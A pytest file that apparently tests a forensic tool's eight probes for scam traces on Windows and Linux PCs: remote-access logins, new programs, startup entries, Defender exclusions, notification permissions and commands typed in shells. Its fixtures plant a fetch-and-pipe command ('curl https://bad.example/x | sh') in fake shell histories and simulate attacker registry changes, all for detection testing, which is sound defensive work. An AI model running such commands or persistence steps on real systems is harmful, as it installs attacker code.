"""What the eight probes find, on a PC of which all is known, and what they leave alone."""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from types import SimpleNamespace

import pytest

from app.evidence import places
from app.evidence.places import Places
from app.evidence.probes import LOOKS_BACK, PROBES, UNINSTALL, _looked, look_back
from app.evidence.remote_logs import TERMINAL
from app.evidence.report import run, told
from app.evidence.traces import Evidence, Looked, Trace
from app.texts import Library
from tests.companion.test_dangers import COPIED
from tests.evidence.conftest import NOW, event, put, since_1601
from tests.evidence.test_remote_logs import SAMPLES

FAR = datetime(9999, 12, 31, 23, 59, tzinfo=UTC)
OLD = NOW - timedelta(days=30)
USER, PC = "HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"
VERSION, DEFENDER = r"Software\Microsoft\Windows\CurrentVersion", rf"{PC}\SOFTWARE\Microsoft\Windows Defender"
CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
FETCHING = [line for line in COPIED["malicious"] if "//" in line]
NAMES = ("AnyDesk", "ウイルス駆除 2026", "Support-Tool (x64) 1.0", "Ｏｆｆｉｃｅ", "PC Cleaner & Booster", "é-Lève")
BROWSERS = ("Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser")
RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
PAGES = {"https://bad.example:443,*": RULE, "https://no.example:443,*": RULE | {"setting": 2}}
PREFERENCES = json.dumps({"profile": {"content_settings": {"exceptions": {"notifications": PAGES}}}})

SPOILT: dict[str, Callable[[Path], object]] = {
    "huge": lambda file: (file.touch(), os.truncate(file, 10**9)),
    "foreign": lambda file: file.write_bytes("履歴".encode("cp932") * 9 + bytes(range(256))),
    "locked": lambda file: file.symlink_to("/proc/self/mem"),
    "looped": lambda file: file.symlink_to(file),
    "pipe": os.mkfifo if sys.platform == "linux" else Path.touch,
    "folder": Path.mkdir,
}


def found(evidence: Evidence) -> dict[str, set[str]]:
    return {one.probe: {trace.other or trace.what for trace in one.traces} for one in evidence if one.traces}


@pytest.fixture(autouse=True)
def own_log(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What this PC has in /var/log is nobody's concern."""
    listed = places._listed
    monkeypatch.setattr(places, "_listed", lambda folder, name: listed(folder.replace("/var/log", f"{home}/log"), name))


def leave(dice: Random, home: Path, staged: SimpleNamespace) -> dict[str, set[str]]:
    """What a criminal leaves on Windows, beside what was there; returns what is to be told of it."""
    at, (new, gone, own) = NOW - timedelta(minutes=dice.randint(30, 2800)), dice.sample(NAMES, 3)
    (typed, *lines), page = dice.sample(FETCHING, 4), f"https://n{dice.random()}.example"
    file, content, other, _ = SAMPLES[dice.choice([*SAMPLES])]
    number = re.sub(r"\d", lambda _: dice.choice("123456789"), other)
    put(home, file, f"\r\n{content}".replace(other, number), dice.choice(["utf-8", "utf-16"]))
    put(home, "APPDATA/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "\n".join(["dir", *lines]))
    put(home, f"APPDATA/Microsoft/Windows/Start Menu/Programs/Startup/{gone}.lnk", "")
    profile = f"LOCALAPPDATA/{dice.choice(BROWSERS)}/User Data/Profile {dice.randint(1, 9)}"
    put(home, f"{profile}/Preferences", PREFERENCES.replace("https://bad.example:443", page))
    staged.keys |= {
        rf"{dice.choice(UNINSTALL)}\{{A}}": ({"DisplayName": new}, at),
        rf"{dice.choice(UNINSTALL)}\B": ({"DisplayName": own}, OLD),
        rf"{USER}\{VERSION}\Explorer\RunMRU": ({"a": f"{typed}\\1", "b": "cmd\\1", "MRUList": "ab"}, at),
        rf"{dice.choice([USER, PC])}\{VERSION}\{dice.choice(['Run', 'RunOnce'])}": ({"OneDrive": "x", new: "y"}, at),
        rf"{PC}\SYSTEM\CurrentControlSet\Control\Terminal Server": ({"fDenyTSConnections": 0}, OLD),
        rf"{DEFENDER}\Exclusions\{dice.choice(['Paths', 'Processes', 'Extensions'])}": ({new: 0}, OLD),
    }
    log, changed = "Microsoft-Windows-Windows Defender", rf"HKLM\SOFTWARE\…\Exclusions\Paths\{own} = 0x0"
    client, address = f"thief{dice.random()}@example.com", f"192.0.2.{dice.randint(1, 254)}"
    off, but = event(log, 5001, at, "Microsoft Defender"), event(log, 5007, at, "Microsoft Defender", changed)
    began = [event(TERMINAL, dice.choice([21, 25]), at, "PC\\hanako", "2", who) for who in ("ローカル", address)]
    removed, came = event("MsiInstaller", 1034, at, gone, "16.0"), event("chromoting", 1, at, f"{client}/ftl_1")
    staged.events |= {"Application": [removed, came], f"{log}/Operational": [off, but]}
    staged.events[f"{TERMINAL}/Operational"] = began
    told = {"connections": {number, client, address}, "programs": {new, gone}, "typed": {typed[:80]}}
    told |= {
        "fetched": {" ".join(line[:320].split())[:80] for line in lines},
        "starts": {f"OneDrive, {new}", f"{gone}.lnk"},
    }
    return told | {"remote_desktop": {""}, "protection": {new, "", f"{own} = 0x0"}, "notices": {page}}


@pytest.mark.linux("its files were made before they were written")
@pytest.mark.parametrize("seed", range(10))
def test_what_was_left_on_windows_is_told_and_nothing_else(windows: SimpleNamespace, home: Path, seed: int) -> None:
    """Sixteen traces each, over all probes."""
    expected = leave(Random(seed), home, windows)
    assert found(look_back()) == expected
    windows.keys[rf"{DEFENDER}\Exclusions\Paths"] = windows.events["Application"] = None
    evidence = {looked.probe: looked.closed for looked in look_back() if looked.closed}
    assert evidence["connections"] == ("Application: chromoting",), "that it could not look is a result"
    assert {*evidence} == {"connections", "programs", "protection"}


@pytest.mark.linux("kinds of files")
@pytest.mark.parametrize("kind", SPOILT)
def test_no_file_is_a_fault(home: Path, kind: str) -> None:
    put(home, ".zsh_history", f"{CURL}\n")
    SPOILT[kind](home / ".bash_history")
    [looked] = [one for one in look_back() if one.probe == "fetched"]
    assert [trace.what for trace in looked.traces] == [CURL]
    assert any("bash" in place for place in looked.closed) is (kind == "locked")


@pytest.mark.linux("a home as it has it")
def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
    for file in Path("/etc/skel").glob(".*"):
        shutil.copy(file, home)
    assert not found(look_back()), "a fresh home"
    put(home, "log/dpkg.log", "".join(f"{at.astimezone():{DPKG}}:all 1 <none>\n" for at in (OLD, NOW)))
    put(home, ".config/autostart/evil.desktop", "")
    os.utime(put(home, ".config/autostart/old.desktop", ""), (OLD.timestamp(), OLD.timestamp()))
    put(home, ".bash_history", f"ls\n{CURL}\n")
    put(home, ".config/chromium/Default/Preferences", PREFERENCES[:-9])
    evidence = look_back()
    assert found(evidence) == {"programs": {"came"}, "starts": {"evil.desktop"}, "fetched": {CURL}}
    assert [looked.probe for looked in evidence if looked.closed] == ["notices"], "a torn file was not looked at"
    assert [looked.probe for looked in evidence if not looked.where] == ["typed", "remote_desktop", "protection"]
    assert not any(looked.where or looked.traces for looked in look_back(within=-1.0)), "when time is up"
    assert len(evidence) == len(PROBES) == 8


@pytest.mark.linux("a home as it has it")
def test_passwords_and_cookies_stay_shut_and_nothing_is_written(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("Default/Login Data", "Default/Cookies", "Default/Preferences", "Local State"):
        put(home, f".config/google-chrome/{name}", PREFERENCES)
    opened, reads = set[tuple[str, str]](), Path.open
    monkeypatch.setattr(Path, "open", lambda path, mode: opened.add((path.name, mode)) or reads(path, mode))
    look_back()
    assert {(name, mode) for name, mode in opened if name != "dpkg.log"} == {("Preferences", "rb")}


@pytest.mark.linux("a home as it has it")
def test_what_a_stranger_wrote_acts_on_no_console(
    home: Path, library: Library, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, ".bash_history", f"{CURL}\u202e\x1b[2J\n")
    for as_json in (True, False):
        assert run(library.texts("ja"), timedelta(hours=48), as_json=as_json) == 0
        text = capsys.readouterr().out
        assert CURL in text
        assert not {"\x1b", "\u202e"} & {*text}
        assert not as_json or [looked["probe"] for looked in json.loads(text)] == [probe.__name__ for probe in PROBES]


def test_what_lies_ahead_is_not_told_and_the_first_of_many_is(library: Library) -> None:
    """One line of a hostile log took the memo away; three later ones pushed the true connection off the paper."""
    now, texts = datetime.now(UTC), library.texts("ja")
    true = Trace("connected", "anydesk", now - timedelta(hours=2), other="911222333")
    lies = [Trace("connected", "anydesk", now - timedelta(minutes=n), other=str(n)) for n in range(90)]
    ahead = [Trace("connected", "anydesk", at, other="4") for at in (now + timedelta(days=1), FAR)]

    def connections(_: Places) -> Iterator[Trace]:
        yield from (*ahead, *lies, true)

    looked = _looked(connections, Places(now - LOOKS_BACK, time.monotonic() + 9))
    assert looked.traces[0] == true
    assert not {*ahead} & {*looked.traces}
    lines = told((looked,), texts)
    assert "911 222 333" in lines[0]
    assert lines[3] == texts["evidence.more"].filled(count=88).text


def test_nothing_found_is_no_all_clear(library: Library) -> None:
    texts = library.texts("ja")
    assert told((), texts) == (), "nobody has looked"
    nothing, closed = told((Looked("typed", where=("a",)), Looked("starts")), texts)
    assert nothing == "見つかりませんでした。なかった、という意味ではありません。"
    assert told((Looked("starts"),), texts) == (closed,), "nor is it said where nobody could look"
